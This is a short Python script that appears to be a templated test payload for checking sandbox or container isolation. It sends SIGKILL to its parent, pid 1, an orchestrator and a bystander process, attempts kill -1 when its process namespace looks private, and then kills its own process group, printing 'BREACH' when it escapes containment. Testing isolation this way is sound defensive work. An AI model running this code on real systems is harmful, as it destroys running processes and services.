# Attack: kill whoever runs it: its parent, pid 1, the orchestrator and a bystander process by their host
# pids, every process it may signal (kill -1), and finally its own process group.
import os
import signal
import time

print(f"pid {os.getpid()}, parent {os.getppid()}", flush=True)
for target in sorted({os.getppid(), 1, {{ORCH_PID}}, {{BYSTANDER_PID}}}):
    try:
        os.kill(target, signal.SIGKILL)
        print(f"sent SIGKILL to {target}", flush=True)
    except OSError as e:
        print(f"could not signal {target} ({e.strerror})", flush=True)
time.sleep(0.3)
visible = [p for p in os.listdir("/proc") if p.isdigit()]
if len(visible) > 20:
    # Not a private pid namespace: kill -1 would take the whole machine down with it, so stop here.
    print(f"BREACH: sees {len(visible)} processes of the host; kill -1 skipped")
else:
    try:
        os.kill(-1, signal.SIGKILL)  # every process it may signal, except itself and pid 1
        print("sent SIGKILL to every process it may signal", flush=True)
    except OSError as e:
        print(f"kill -1: {e.strerror}", flush=True)
os.killpg(0, signal.SIGKILL)
print("BREACH: survived killing its own process group")
